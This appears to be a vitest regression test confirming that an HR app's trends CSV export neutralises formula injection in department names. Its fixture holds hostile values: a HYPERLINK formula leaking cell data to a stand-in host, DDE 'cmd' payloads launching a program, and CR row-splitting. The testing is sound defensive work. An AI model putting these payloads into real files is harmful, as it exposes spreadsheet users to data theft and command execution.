import { parse } from "csv-parse/sync";
import { and, eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { departments, orgRoles } from "@/db/schema";
import { seedDemoOrg } from "@/db/seed/demo-org";
import { createTestDb, type TestDb } from "../support/db";
import { cycleWithGroups, settleTrends } from "../support/trends";
import { callerFor } from "../support/factories";

// CSV formula injection through the trends export (issue 17): names HR or an import chose
// (departments, teams' managers, cycles) reach a spreadsheet. A cell that starts with =, +, -,
// @, a tab or a CR is a formula to Excel, LibreOffice and Google Sheets; a bare CR ends a row.
// The export must hand every name over as text, and keep the figures as numbers.

let t: TestDb;
let orgId: string;
let hrId: string;

const HOSTILE = {
  Engineering: '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
  Sales: "+cmd|' /C calc'!A0",
  Product: "-2+3",
  Finance: "@SUM(1+1)*cmd|' /C calc'!A0",
  Marketing: "\tTabbed",
  Support: "Split\r=1+1",
} as const;

beforeAll(async () => {
  t = await createTestDb();
  ({ orgId } = await seedDemoOrg(t.db));
  const [hr] = await t.db
    .select({ id: orgRoles.personId })
    .from(orgRoles)
    .where(and(eq(orgRoles.orgId, orgId), eq(orgRoles.role, "hr_admin")));
  hrId = hr!.id;
  const depts = await t.db
    .select({ id: departments.id, name: departments.name })
    .from(departments)
    .where(and(eq(departments.orgId, orgId), inArray(departments.name, Object.keys(HOSTILE))));
  for (const d of depts)
    await t.db
      .update(departments)
      .set({ name: HOSTILE[d.name as keyof typeof HOSTILE] })
      .where(eq(departments.id, d.id));
  // Names are frozen when a cycle opens: these past cycles are frozen and published now, with the hostile names.
  await settleTrends(t.db);
});
afterAll(() => t.close());

describe("the trends export as CSV", () => {
  it("neutralises every text cell a spreadsheet would run, quotes CR and LF, and keeps figures as numbers", async () => {
    const hr = callerFor(t.db, hrId);
    const view = await cycleWithGroups(hr, {});
    const hostileGroups = view.groups.filter((g) => Object.values(HOSTILE).includes(g.name as never));
    expect(hostileGroups.length, "the demo's departments carry the hostile names").toBeGreaterThan(0);
    const { csv } = await hr.trends.exportCsv({ cycleId: view.cycle!.id });

    // A spreadsheet ends a row at a bare CR as well as at LF: a CR in a name must be quoted.
    if (hostileGroups.some((g) => g.name === HOSTILE.Support)) expect(csv).toContain(`\n"${HOSTILE.Support}",`);
    const records: string[][] = parse(csv, { relax_column_count: false });
    expect(records).toHaveLength(1 + view.groups.length * 9);
    for (const r of records) expect(r).toHaveLength(records[0]!.length);
    expect(records[0]!.length).toBe(35);

    for (const [i, record] of records.entries()) {
      for (const [j, cell] of record.entries()) {
        const isFigure = j >= 2 && /^-?\d+\.\d\d$/.test(cell);
        if (isFigure) continue;
        expect(cell, `row ${i} column ${j}`).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    for (const g of hostileGroups) {
      const rows = records.filter((r) => r[0] === `'${g.name}`);
      expect(rows, g.name).toHaveLength(9);
    }
    // Figures stay plain numbers, negative ones included: nothing prefixed to a figure.
    const figures = records.slice(1).flatMap((r) => r.slice(2));
    expect(figures.some((f) => /^\d\.\d\d$/.test(f))).toBe(true);
    // Blank: a figure that is undefined (an ICC interval at perfect agreement, a driver without pairs).
    expect(figures.every((f) => /^-?\d+\.\d\d$/.test(f) || f === "fewer than 5 people" || f === "")).toBe(true);
  });
});
